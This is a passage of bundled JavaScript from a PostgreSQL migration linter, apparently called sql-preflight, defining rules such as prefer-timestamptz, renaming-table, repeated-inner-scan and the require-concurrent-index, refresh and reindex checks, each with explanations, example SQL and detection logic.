    CURRENT_TIME_VALUES = /* @__PURE__ */ new Set(["SVFOP_CURRENT_TIMESTAMP", "SVFOP_CURRENT_TIMESTAMP_N", "SVFOP_LOCALTIMESTAMP", "SVFOP_LOCALTIMESTAMP_N"]);
    prefer_timestamptz_default = defineRule({
      meta: {
        id: "prefer-timestamptz",
        category: "types",
        severity: "notice",
        summary: "Store points in time as timestamptz, not timestamp without time zone.",
        why: "A timestamp without time zone keeps the date and clock fields exactly as given and silently ignores any zone or offset in the input, so the same column ends up holding local times of whichever server, session or client wrote them. Those values cannot be ordered or converted reliably across time zones, and around a daylight-saving change one local time names two instants. timestamptz takes the same 8 bytes, stores the instant in UTC and converts to the session TimeZone on output. Switching an existing column later is an ALTER COLUMN TYPE that rewrites the table under an ACCESS EXCLUSIVE lock (since Postgres 12 it skips the rewrite only when the session TimeZone is UTC).",
        safeAlternative: "Use timestamptz (timestamp with time zone), keeping any precision: timestamp(3) becomes timestamptz(3). Keep timestamp without time zone only for values that are deliberately zone-less, such as a local opening hour.",
        examples: {
          bad: [
            "CREATE TABLE events (id bigint PRIMARY KEY, happened_at timestamp NOT NULL);",
            "ALTER TABLE events ADD COLUMN processed_at timestamp(3) without time zone;"
          ],
          good: [
            "CREATE TABLE events (id bigint PRIMARY KEY, happened_at timestamptz NOT NULL DEFAULT now());",
            "ALTER TABLE events ADD COLUMN processed_at timestamp(3) with time zone;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/datatype-datetime.html#DATATYPE-TIMEZONES",
          "https://www.postgresql.org/docs/current/datatype-datetime.html#DATATYPE-DATETIME-INPUT-TIME-STAMPS",
          "https://www.postgresql.org/docs/release/12.0/"
        ]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              if (builtinTypeName(column.def.typeName) !== "timestamp") continue;
              const span = typeNameSpan(statement, column.def.typeName);
              if (!span) continue;
              const written = context.file.lines.slice(span.range);
              const precision2 = column.def.typeName.typmods?.length ? `(${constantText(column.def.typeName.typmods[0])})` : "";
              const replacement = `timestamptz${precision2}`;
              const expressions = [column.def.raw_default, ...column.constraints.map((c) => c.raw_expr)].filter((e) => e !== void 0);
              const mechanical = expressions.every(isCurrentTime);
              context.report(statement, {
                range: span.range,
                message: `${relationName2(column.relation)}.${column.name} is ${written}: it stores wall-clock readings without a zone, so values written from different time zones, or across a daylight-saving change, cannot be compared or converted reliably.`,
                help: mechanical ? void 0 : `Use ${replacement}, and rewrite the ${column.kind === "alter-type" ? "USING" : "default"} expression to produce timestamptz: a timestamp without time zone assigned to a timestamptz column is read in the session TimeZone, so an expression such as now() AT TIME ZONE 'utc' would be shifted by the session's offset.`,
                fix: mechanical ? { description: `Use ${replacement}`, edits: [{ range: span.base, text: replacement }] } : void 0
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/query-broken-by-change.ts
var query_broken_by_change_default;
var init_query_broken_by_change = __esm({
  "src/rules/query-broken-by-change.ts"() {
    "use strict";
    init_rule();
    query_broken_by_change_default = defineRule({
      meta: {
        id: "query-broken-by-change",
        category: "plan",
        severity: "error",
        summary: "A query of the application fails on the schema after the change.",
        why: "sql-preflight planned the query on the schema the change starts from, where it works, and again after the change, where PostgreSQL rejects it: a column, table, function or type it uses was dropped, renamed or given another type. The application keeps sending the query from the moment the migration runs until every instance runs code that no longer uses it, and each call fails with this error.",
        safeAlternative: "Expand, then contract: deploy application code that no longer uses the old name or type first, and drop or rename in a later migration. For a rename, add the new column (or a view with the new name) and keep both until the old one is unused; for a type change, add a column of the new type, backfill it, and switch reads over before dropping the old one. If the query belongs to code that ships with this change, update it in the same pull request.",
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\n-- queries/orders.sql:\n-- SELECT id, total FROM orders WHERE customer_id = $1;",
          bad: ["ALTER TABLE orders RENAME COLUMN total TO amount;", "ALTER TABLE orders DROP COLUMN total;"],
          good: ["ALTER TABLE orders ADD COLUMN amount numeric(12, 2);"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html",
          "https://www.postgresql.org/docs/current/ddl-alter.html"
        ]
      },
      create: () => ({})
    });
  }
});

// src/rules/query-plan-failed.ts
var query_plan_failed_default;
var init_query_plan_failed = __esm({
  "src/rules/query-plan-failed.ts"() {
    "use strict";
    init_rule();
    query_plan_failed_default = defineRule({
      meta: {
        id: "query-plan-failed",
        category: "plan",
        severity: "error",
        summary: "A query of the change cannot be planned on the schema the migrations build.",
        why: "sql-preflight replayed the migrations, ran the change and asked PostgreSQL to plan the query (EXPLAIN, with a generic plan for its parameters), and PostgreSQL rejected it: a misspelt column or table, a table that no migration creates, a type mismatch, a syntax error. The application would get the same error on its first call. Queries that worked before the change and fail after it are reported as query-broken-by-change instead.",
        safeAlternative: "Fix the query so that it matches the schema, or add the migration that creates what it needs to the same change. If the object comes from outside the migrations (an extension, a role, a schema), list the SQL that creates it under `setup` in .sql-preflight.yml.",
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);",
          bad: ["SELECT id, totl FROM orders WHERE customer_id = $1;", "SELECT id FROM order_lines WHERE order_id = $1;"],
          good: ["SELECT id, total FROM orders WHERE customer_id = $1;"]
        },
        references: ["https://www.postgresql.org/docs/current/sql-explain.html", "https://www.postgresql.org/docs/current/sql-prepare.html"]
      },
      create: () => ({})
    });
  }
});

// src/rules/renaming-column.ts
var TABLES3, renaming_column_default;
var init_renaming_column = __esm({
  "src/rules/renaming-column.ts"() {
    "use strict";
    init_ast();
    init_rule();
    TABLES3 = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_FOREIGN_TABLE"]);
    renaming_column_default = defineRule({
      meta: {
        id: "renaming-column",
        category: "breaking",
        severity: "warning",
        summary: "Do not rename a column that the running application uses.",
        why: 'The rename takes effect for everyone the moment the migration commits, while the application version already running still sends queries with the old name: each of them fails with "column does not exist" until the new version has replaced the old one everywhere. The old and the new application version cannot both work against the renamed table.',
        safeAlternative: "Rename in steps, each deployed on its own: add the column under the new name, have the application write both columns and backfill the new one, switch reads to the new column, stop writing the old one, then drop it in a later migration. For a table the application only reads, a view that exposes the old name can bridge the transition instead.",
        examples: {
          bad: ["ALTER TABLE users RENAME COLUMN mail TO email;"],
          good: [
            "ALTER TABLE users ADD COLUMN email text;",
            "CREATE TABLE accounts (id bigint PRIMARY KEY, mail text);\nALTER TABLE accounts RENAME COLUMN mail TO email;"
          ]
        },
        references: ["https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-RENAME"]
      },
      create(context) {
        return {
          RenameStmt(node, statement) {
            if (node.renameType !== "OBJECT_COLUMN" || !TABLES3.has(node.relationType ?? "") || context.isNewTable(node.relation)) return;
            context.report(statement, {
              range: rangeFrom(statement, keywordRange(statement, "RENAME")?.start),
              message: `Renaming column ${node.subname ?? "?"} of ${relationName2(node.relation)} to ${node.newname ?? "?"} breaks the application version still running: its queries that name ${node.subname ?? "?"} fail once the migration commits.`
            });
          }
        };
      }
    });
  }
});

// src/rules/renaming-table.ts
var TABLES4, renaming_table_default;
var init_renaming_table = __esm({
  "src/rules/renaming-table.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    TABLES4 = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_FOREIGN_TABLE"]);
    renaming_table_default = defineRule({
      meta: {
        id: "renaming-table",
        category: "breaking",
        severity: "warning",
        summary: "Do not rename a table that the running application uses.",
        why: 'The new name takes effect for every session the moment the migration commits, while the application version already running still sends its queries to the old name: each of them fails with "relation does not exist" until the new version has replaced the old one everywhere.',
        safeAlternative: "Rename the table and, in the same transaction, create a view under the old name (CREATE VIEW old_name AS SELECT * FROM new_name). A view that selects all columns of one table is automatically updatable, so the old application version keeps reading and writing through it; drop the view once no running version uses the old name. Alternatively create the new table, write to both and copy the rows over, then drop the old one.",
        examples: {
          bad: ["ALTER TABLE customers RENAME TO clients;"],
          good: [
            "BEGIN;\nALTER TABLE customers RENAME TO clients;\nCREATE VIEW customers AS SELECT * FROM clients;\nCOMMIT;",
            "CREATE TABLE customer_imports (id bigint PRIMARY KEY);\nALTER TABLE customer_imports RENAME TO client_imports;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-RENAME",
          "https://www.postgresql.org/docs/current/sql-createview.html#SQL-CREATEVIEW-UPDATABLE-VIEWS"
        ]
      },
      create(context) {
        return {
          RenameStmt(node, statement) {
            if (!TABLES4.has(node.renameType ?? "") || context.isNewTable(node.relation)) return;
            const oldName = relationKey(node.relation);
            const bridged = context.file.statements.some(
              (s) => s.index > statement.index && statement.transaction !== void 0 && s.transaction === statement.transaction && s.type === "ViewStmt" && relationKey(s.node.view) === oldName
            );
            if (bridged) return;
            context.report(statement, {
              range: rangeFrom(statement, keywordRange(statement, "RENAME")?.start),
              message: `Renaming table ${relationName2(node.relation)} to ${node.newname ?? "?"} breaks the application version still running: its queries on ${relationName2(node.relation)} fail once the migration commits.`
            });
          }
        };
      }
    });
  }
});

// src/plan/conditions.ts
function conjuncts(condition) {
  const terms = [];
  const body = unwrap(condition.trim());
  let depth = 0;
  let quoted;
  let start = 0;
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === quoted) quoted = void 0;
    } else if (c === "'" || c === '"') {
      quoted = c;
    } else if (c === "(") {
      depth++;
    } else if (c === ")") {
      depth--;
    } else if (depth === 0 && body.startsWith(" AND ", i)) {
      terms.push(body.slice(start, i));
      start = i + " AND ".length;
      i += " AND ".length - 1;
    }
  }
  terms.push(body.slice(start));
  return terms.map((t) => unwrap(t.trim()));
}
function comparedColumns(condition, alias) {
  const found = [];
  for (const term of conjuncts(condition)) {
    const split = splitComparison(term);
    if (!split) continue;
    const sides = [COLUMN.exec(split.left), COLUMN.exec(split.right)];
    for (const [i, side] of sides.entries()) {
      if (!side) continue;
      const sideAlias = side[1] !== void 0 ? unquote(side[1]) : void 0;
      if (alias !== void 0 && sideAlias !== void 0 && sideAlias !== alias) continue;
      const other = sides[1 - i];
      if (other && (other[1] !== void 0 ? unquote(other[1]) : void 0) === sideAlias) continue;
      const column = side[2];
      if (!found.some((f) => f.column === column)) found.push({ column, equality: split.operator === "=" });
    }
  }
  return [...found.filter((f) => f.equality), ...found.filter((f) => !f.equality)];
}
function splitComparison(term) {
  let depth = 0;
  let quoted;
  for (let i = 0; i < term.length; i++) {
    const c = term[i];
    if (quoted) {
      if (c === quoted) quoted = void 0;
      continue;
    }
    if (c === "'" || c === '"') quoted = c;
    else if (c === "(") depth++;
    else if (c === ")") depth--;
    else if (depth === 0 && c === " ") {
      const operator = OPERATORS.find((op) => term.startsWith(` ${op} `, i));
      if (operator) return { left: stripCast(term.slice(0, i)), operator, right: stripCast(term.slice(i + operator.length + 2)) };
    }
  }
  return void 0;
}
function stripCast(side) {
  const cast = side.match(/^(.*?)::[a-z ]+(?:\([0-9, ]+\))?(?:\[\])?$/);
  return unwrap(cast ? cast[1] : side);
}
function unwrap(text2) {
  while (text2.startsWith("(") && text2.endsWith(")") && closingParen(text2) === text2.length - 1) text2 = text2.slice(1, -1).trim();
  return text2;
}
function closingParen(text2) {
  let depth = 0;
  let quoted;
  for (let i = 0; i < text2.length; i++) {
    const c = text2[i];
    if (quoted) {
      if (c === quoted) quoted = void 0;
    } else if (c === "'" || c === '"') {
      quoted = c;
    } else if (c === "(") {
      depth++;
    } else if (c === ")" && --depth === 0) {
      return i;
    }
  }
  return -1;
}
function unquote(identifier2) {
  return identifier2.startsWith('"') ? identifier2.slice(1, -1).replaceAll('""', '"') : identifier2;
}
var IDENTIFIER, COLUMN, OPERATORS;
var init_conditions = __esm({
  "src/plan/conditions.ts"() {
    "use strict";
    IDENTIFIER = String.raw`(?:"(?:[^"]|"")+"|[a-z_][a-z0-9_$]*)`;
    COLUMN = new RegExp(String.raw`^(?:(${IDENTIFIER})\.)?(${IDENTIFIER})$`);
    OPERATORS = ["=", "<=", ">=", "<", ">"];
  }
});

// src/rules/repeated-inner-scan.ts
function measured(inner, driver) {
  const loops = (inner.node["Actual Loops"] ?? 0) / inner.processes;
  const innerTime = inclusiveTime(inner);
  const driverTime = inclusiveTime(driver);
  if (innerTime === void 0 || !driverTime || loops < 1) return void 0;
  return { loops, share: innerTime * (loops - 1) / loops / driverTime, estimated: false };
}
function estimated(plan, inner, driver, subplan) {
  const outer = driver.children.find((c) => c.node["Parent Relationship"] === "Outer");
  const loops = subplan ? driver.node["Plan Rows"] : outer?.node["Plan Rows"];
  const innerCost = inner.node["Total Cost"];
  const driverCost = driver.node["Total Cost"];
  if (loops === void 0 || innerCost === void 0 || !driverCost || plan.Plan["Total Cost"] === void 0) return void 0;
  return { loops, share: innerCost * Math.max(0, loops - 1) / driverCost, estimated: true };
}
function findCulprit(inner, ratio, estimated3) {
  const stack = [inner];
  while (stack.length) {
    const visit = stack.shift();
    const { node } = visit;
    if (CACHES.has(node["Node Type"]) || node["Actual Loops"] === 0) continue;
    if (node["Node Type"] === "Seq Scan") return visit;
    if (!estimated3 && removedPerLoop(node) >= ratio * Math.max(node["Actual Rows"] ?? 0, 1)) return visit;
    stack.push(...visit.children);
  }
  return void 0;
}
function removedPerLoop(node) {
  return (node["Rows Removed by Filter"] ?? 0) + (node["Rows Removed by Join Filter"] ?? 0) + (node["Rows Removed by Index Recheck"] ?? 0);
}
function pathTo(inner, culprit) {
  const path3 = [];
  for (let v = culprit; v && v !== inner.parent; v = v.parent) path3.unshift(v.node);
  return path3;
}
var defaultOptions4, CACHES, repeated_inner_scan_default;
var init_repeated_inner_scan = __esm({
  "src/rules/repeated-inner-scan.ts"() {
    "use strict";
    init_rule();
    init_conditions();
    init_text2();
    init_walk();
    defaultOptions4 = { minLoops: 2, minRepeatedShare: 0.5, minRuntimeShare: 0.1, minRemovedRatio: 10 };
    CACHES = /* @__PURE__ */ new Set(["Materialize", "Memoize"]);
    repeated_inner_scan_default = definePlanRule({
      meta: {
        id: "repeated-inner-scan",
        category: "plan",
        severity: "warning",
        needsAnalyze: false,
        summary: "A nested loop or correlated subquery scans its inner side again for every outer row.",
        why: "A Nested Loop runs its inner side once per row of its outer side, and a correlated subquery (SubPlan) runs once per row it is evaluated for. That is fast when each run is an index lookup; when each run scans a table or throws most of what it reads away, the work is outer rows \xD7 table size, and it grows with both tables.",
        safeAlternative: "Give the inner side an index on the columns it compares with the outer row, so each run is a lookup (with CREATE INDEX CONCURRENTLY in a migration). If the outer side returns far more rows than the planner expected, fix that estimate (ANALYZE, extended statistics) so it can choose a hash join; rewrite a correlated subquery as a join with GROUP BY so it runs once.",
        defaultOptions: defaultOptions4,
        optionDocs: {
          minLoops: "Only inner sides that ran (or are estimated to run) at least this many times.",
          minRepeatedShare: "Flag when the repeated runs take at least this share of the loop's time (of its cost without ANALYZE).",
          minRuntimeShare: "Only loops that take at least this share of the execution time (of the estimated cost without ANALYZE).",
          minRemovedRatio: "An inner side that is not a seq scan counts when it reads and discards this many rows for each row it keeps."
        },
        examples: {
          existing: "CREATE TABLE customers (\n  id bigint PRIMARY KEY,\n  name text NOT NULL\n);\nINSERT INTO customers SELECT g, 'customer ' || g FROM generate_series(1, 2000) AS g;\nCREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL REFERENCES customers,\n  created_at timestamptz NOT NULL\n);\nINSERT INTO orders\nSELECT g, 1 + g % 2000, timestamptz '2024-01-01 00:00:00+00' + g * interval '1 minute'\nFROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE customers;\nVACUUM ANALYZE orders;",
          bad: [
            "-- The latest order of each of 20 customers.\nSELECT c.id, c.name, latest.created_at\nFROM customers c\nCROSS JOIN LATERAL (\n  SELECT o.created_at FROM orders o WHERE o.customer_id = c.id ORDER BY o.created_at DESC LIMIT 1\n) latest\nWHERE c.id <= 20;"
          ],
          good: [
            "CREATE INDEX orders_customer_id_created_at_idx ON orders (customer_id, created_at);\nSELECT c.id, c.name, latest.created_at\nFROM customers c\nCROSS JOIN LATERAL (\n  SELECT o.created_at FROM orders o WHERE o.customer_id = c.id ORDER BY o.created_at DESC LIMIT 1\n) latest\nWHERE c.id <= 20;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/planner-optimizer.html",
          "https://www.postgresql.org/docs/current/using-explain.html#USING-EXPLAIN-BASICS"
        ]
      },
      check(plan, context) {
        const { options } = context;
        for (const inner of context.nodes) {
          const driver = inner.parent;
          if (!driver) continue;
          const relationship = inner.node["Parent Relationship"];
          const subplan = relationship === "SubPlan";
          if (!subplan && !(relationship === "Inner" && driver.node["Node Type"] === "Nested Loop")) continue;
          if (CACHES.has(inner.node["Node Type"])) continue;
          const repeated = isAnalyzed(plan) ? measured(inner, driver) : estimated(plan, inner, driver, subplan);
          if (!repeated || repeated.loops < options.minLoops || repeated.share < options.minRepeatedShare) continue;
          if (workShare(plan, driver, false) < options.minRuntimeShare) continue;
          const culprit = findCulprit(inner, options.minRemovedRatio, repeated.estimated);
          if (!culprit) continue;
          const { node } = culprit;
          const table = relationName(node) ?? nodeLabel(node);
          const side = subplan ? inner.node["Subplan Name"] ?? "its subquery" : "its inner side";
          const perRun = node["Node Type"] === "Seq Scan" ? `scans all of ${table}` : `reads ${formatCount(removedPerLoop(node) + (node["Actual Rows"] ?? 0))} rows of ${table} to keep ${formatCount(node["Actual Rows"] ?? 0)}`;
          const columns = comparedColumns([node.Filter, node["Join Filter"]].filter(Boolean).join(" AND "), node.Alias).map((c) => c.column);
          const tableName4 = relationName(node);
          context.report({
            node: driver.node,
            quote: pathTo(inner, culprit),
            message: `${nodeLabel(driver.node)} runs ${side} ${repeated.estimated ? "an estimated " : ""}${formatCount(repeated.loops)} times, once per ${subplan ? "row" : "outer row"}, and each run ${perRun}: ${formatShare(repeated.share)} of its ${repeated.estimated ? "cost" : "time"} goes into repeating it.`,
            help: columns.length && tableName4 ? `Index the columns each run looks up, so a run is an index lookup: CREATE INDEX CONCURRENTLY ON ${tableName4} (${columns.join(", ")}); (in a migration).${subplan ? " Or rewrite the subquery as a join with GROUP BY so it runs once." : " If the outer side returned more rows than estimated, fix that estimate so the planner can pick a hash join."}` : void 0,
            evidence: { loops: Math.round(repeated.loops), repeatedShare: Number(repeated.share.toFixed(3)), estimated: repeated.estimated }
          });
        }
      }
    });
  }
});

// src/rules/require-concurrent-detach.ts
var require_concurrent_detach_default;
var init_require_concurrent_detach = __esm({
  "src/rules/require-concurrent-detach.ts"() {
    "use strict";
    init_ast();
    init_rule();
    require_concurrent_detach_default = defineRule({
      meta: {
        id: "require-concurrent-detach",
        category: "locking",
        severity: "error",
        summary: "Detach partitions of existing tables with DETACH PARTITION ... CONCURRENTLY.",
        why: "ALTER TABLE ... DETACH PARTITION without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on the partitioned table itself, so every query on any of its partitions waits until the detach commits. With CONCURRENTLY (PostgreSQL 14 and later) the partitioned table gets only a SHARE UPDATE EXCLUSIVE lock, which lets reads and writes go on.",
        safeAlternative: "Use ALTER TABLE ... DETACH PARTITION ... CONCURRENTLY in a migration that runs outside a transaction block: CONCURRENTLY cannot run inside one, and it is not allowed when the partitioned table has a DEFAULT partition. If it is interrupted, finish it with DETACH PARTITION ... FINALIZE.",
        postgres: { since: 14, note: "DETACH PARTITION ... CONCURRENTLY exists from PostgreSQL 14." },
        examples: {
          bad: ["ALTER TABLE measurements DETACH PARTITION measurements_2019;"],
          good: [
            "ALTER TABLE measurements DETACH PARTITION measurements_2019 CONCURRENTLY;",
            "CREATE TABLE events (at date) PARTITION BY RANGE (at);\nCREATE TABLE events_2024 PARTITION OF events FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');\nALTER TABLE events DETACH PARTITION events_2024;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DETACH-PARTITION",
          "https://www.postgresql.org/docs/current/ddl-partitioning.html"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2 } of alterTableCommands(statement, node)) {
              const partition = cmd.def?.PartitionCmd;
              if (cmd.subtype !== "AT_DetachPartition" || !partition || partition.concurrent) continue;
              const parent = relationName2(node.relation);
              context.report(statement, {
                range: range2,
                message: `Detaching ${relationName2(partition.name)} without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on ${parent}: every query on the partitioned table waits until the detach commits.`,
                help: statement.inTransaction ? `Use DETACH PARTITION ${relationName2(partition.name)} CONCURRENTLY in a migration that runs outside a transaction block (CONCURRENTLY cannot run inside one, nor when ${parent} has a DEFAULT partition).` : void 0
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/require-concurrent-index-creation.ts
var require_concurrent_index_creation_default;
var init_require_concurrent_index_creation = __esm({
  "src/rules/require-concurrent-index-creation.ts"() {
    "use strict";
    init_ast();
    init_rule();
    require_concurrent_index_creation_default = defineRule({
      meta: {
        id: "require-concurrent-index-creation",
        category: "locking",
        severity: "error",
        verifiedBy: "lock",
        summary: "Create indexes on existing tables with CONCURRENTLY.",
        why: "CREATE INDEX without CONCURRENTLY takes a SHARE lock on the table for the whole index build: every INSERT, UPDATE and DELETE waits until the index is built, which on a large table takes minutes.",
        safeAlternative: "Use CREATE INDEX CONCURRENTLY, outside a transaction block. It builds the index without blocking writes; if it fails it leaves an INVALID index behind, which you drop and create again.",
        examples: {
          bad: ["CREATE INDEX orders_customer_id_idx ON orders (customer_id);"],
          good: [
            "CREATE INDEX CONCURRENTLY orders_customer_id_idx ON orders (customer_id);",
            "CREATE TABLE invoices (id bigint PRIMARY KEY, customer_id bigint);\nCREATE INDEX invoices_customer_id_idx ON invoices (customer_id);"
          ]
        },
        references: ["https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY"]
      },
      create(context) {
        return {
          IndexStmt(node, statement) {
            if (node.concurrent || context.isNewTable(node.relation)) return;
            const index = keywordRange(statement, "INDEX");
            context.report(statement, {
              message: `Creating an index on ${relationName2(node.relation)} without CONCURRENTLY blocks writes to the table until the index is built.`,
              fix: index && {
                description: "Add CONCURRENTLY",
                edits: [{ range: { start: index.end, end: index.end }, text: " CONCURRENTLY" }]
              }
            });
          }
        };
      }
    });
  }
});

// src/rules/require-concurrent-index-deletion.ts
function owningTable(catalog, parts) {
  const name = parts.at(-1);
  const schema = parts.length > 1 ? parts.at(-2) : "public";
  for (const table of catalog.tables.values()) {
    if ((table.schema ?? "public") === schema && table.indexes.some((i) => i.name === name)) return table;
  }
  return void 0;
}
function tableName2(table) {
  return table.schema ? `${table.schema}.${table.name}` : table.name;
}
var require_concurrent_index_deletion_default;
var init_require_concurrent_index_deletion = __esm({
  "src/rules/require-concurrent-index-deletion.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    require_concurrent_index_deletion_default = defineRule({
      meta: {
        id: "require-concurrent-index-deletion",
        category: "locking",
        severity: "error",
        summary: "Drop indexes on existing tables with CONCURRENTLY.",
        why: "DROP INDEX without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on the table the index belongs to. The drop itself is quick, but the lock has to wait for every running query on the table to finish, and while it waits all new reads and writes on the table queue behind it.",
        safeAlternative: "Use DROP INDEX CONCURRENTLY, outside a transaction block. It waits for conflicting transactions without blocking reads and writes; it drops one index per statement and does not accept CASCADE.",
        examples: {
          bad: ["DROP INDEX orders_customer_id_idx;"],
          good: [
            "DROP INDEX CONCURRENTLY orders_customer_id_idx;",
            "CREATE TABLE invoices (id bigint PRIMARY KEY, customer_id bigint);\nCREATE INDEX invoices_customer_id_idx ON invoices (customer_id);\nDROP INDEX invoices_customer_id_idx;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-dropindex.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          DropStmt(node, statement) {
            if (node.removeType !== "OBJECT_INDEX" || node.concurrent) return;
            const names3 = (node.objects ?? []).map(
              (object) => (object.List?.items ?? []).map(constantText).filter((p) => !!p)
            );
            const tables = names3.map((parts) => owningTable(context.catalog, parts));
            const onExisting = tables.filter((t) => !t || !context.isNewTable({ relname: t.name, schemaname: t.schema }));
            if (onExisting.length === 0) return;
            const known = [...new Set(onExisting.filter((t) => !!t).map(tableName2))];
            const on = known.length > 0 && onExisting.every((t) => t) ? known.join(", ") : "the table it belongs to";
            const index = keywordRange(statement, "INDEX");
            const fixable = index && names3.length === 1 && node.behavior !== "DROP_CASCADE" && !statement.inTransaction;
            context.report(statement, {
              message: `Dropping ${names3.length === 1 ? "index" : "indexes"} ${names3.map((p) => p.join(".")).join(", ")} without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on ${on}: reads and writes queue behind it until every running query on the table has finished.`,
              help: names3.length > 1 ? "Drop each index in its own DROP INDEX CONCURRENTLY statement, outside a transaction block." : void 0,
              fix: fixable ? { description: "Add CONCURRENTLY", edits: [{ range: { start: index.end, end: index.end }, text: " CONCURRENTLY" }] } : void 0
            });
          }
        };
      }
    });
  }
});

// src/rules/require-concurrent-refresh.ts
var require_concurrent_refresh_default;
var init_require_concurrent_refresh = __esm({
  "src/rules/require-concurrent-refresh.ts"() {
    "use strict";
    init_ast();
    init_rule();
    require_concurrent_refresh_default = defineRule({
      meta: {
        id: "require-concurrent-refresh",
        category: "locking",
        severity: "error",
        summary: "Refresh existing materialized views with CONCURRENTLY.",
        why: "REFRESH MATERIALIZED VIEW without CONCURRENTLY takes an ACCESS EXCLUSIVE lock on the view for the whole time its query runs, so every SELECT on the view waits until the refresh commits. With CONCURRENTLY the refresh takes an EXCLUSIVE lock instead, which lets reads continue.",
        safeAlternative: "Use REFRESH MATERIALIZED VIEW CONCURRENTLY. It needs at least one UNIQUE index on the view that uses only plain column names and has no WHERE clause, and the view must already be populated. WITH NO DATA cannot be combined with CONCURRENTLY; that form empties the view on purpose and is not reported.",
        examples: {
          bad: ["REFRESH MATERIALIZED VIEW order_totals;"],
          good: [
            "REFRESH MATERIALIZED VIEW CONCURRENTLY order_totals;",
            "REFRESH MATERIALIZED VIEW order_totals WITH NO DATA;",
            "CREATE MATERIALIZED VIEW daily_totals AS SELECT 1 AS day;\nREFRESH MATERIALIZED VIEW daily_totals;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-refreshmaterializedview.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        return {
          RefreshMatViewStmt(node, statement) {
            if (node.concurrent || node.skipData || context.isNewTable(node.relation)) return;
            const name = relationName2(node.relation);
            const uniqueIndex = context.catalog.table(node.relation)?.indexes.find((i) => i.unique && !i.partial && !i.columns.includes("(expression)"));
            const view = keywordRange(statement, "MATERIALIZED", "VIEW");
            context.report(statement, {
              message: `Refreshing materialized view ${name} without CONCURRENTLY takes an ACCESS EXCLUSIVE lock: every query that reads it waits until the refresh finishes.`,
              help: uniqueIndex ? `Use REFRESH MATERIALIZED VIEW CONCURRENTLY ${name}: reads keep working, and the unique index ${uniqueIndex.name ?? "on the view"} makes it possible.` : `Create a UNIQUE index on plain columns of ${name} (CREATE UNIQUE INDEX CONCURRENTLY ...), then use REFRESH MATERIALIZED VIEW CONCURRENTLY ${name}, which keeps reads working.`,
              fix: uniqueIndex && view ? { description: "Add CONCURRENTLY", edits: [{ range: { start: view.end, end: view.end }, text: " CONCURRENTLY" }] } : void 0
            });
          }
        };
      }
    });
  }
});

// src/rules/require-concurrent-reindex.ts
function kindKeyword(statement) {
  const tokens = statement.tokens;
  let i = 1;
  if (tokens[i]?.text === "(") {
    while (i < tokens.length && tokens[i].text !== ")") i++;
    i++;
  }
  return tokens[i]?.keyword ? tokens[i].range : void 0;
}
var require_concurrent_reindex_default;
var init_require_concurrent_reindex = __esm({
  "src/rules/require-concurrent-reindex.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statement_locks();
    require_concurrent_reindex_default = defineRule({
      meta: {
        id: "require-concurrent-reindex",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Rebuild indexes of existing tables with REINDEX CONCURRENTLY.",
        why: "REINDEX without CONCURRENTLY takes a SHARE lock on the table, which blocks INSERT, UPDATE and DELETE, and an ACCESS EXCLUSIVE lock on each index while it is rebuilt. The planner locks every index of a table when it plans a query, so in practice nearly every query on the table waits until the rebuild finishes.",
        safeAlternative: "Use REINDEX ... CONCURRENTLY (PostgreSQL 12 and later) outside a transaction block. It builds a new index next to the old one without blocking reads or writes and swaps them; if it fails it leaves an invalid index whose name ends in _ccnew, which you drop before trying again. System catalogs and exclusion-constraint indexes cannot be rebuilt concurrently.",
        postgres: { since: 12, note: "REINDEX CONCURRENTLY exists from PostgreSQL 12; before that there is no online rebuild." },
        examples: {
          bad: ["REINDEX INDEX orders_customer_id_idx;", "REINDEX TABLE orders;"],
          good: ["REINDEX INDEX CONCURRENTLY orders_customer_id_idx;", "REINDEX (CONCURRENTLY) TABLE orders;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-reindex.html",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        const describe5 = (node, statement) => {
          const name = relationName2(node.relation);
          switch (node.kind) {
            case "REINDEX_OBJECT_TABLE":
              if (context.isNewTable(node.relation)) return void 0;
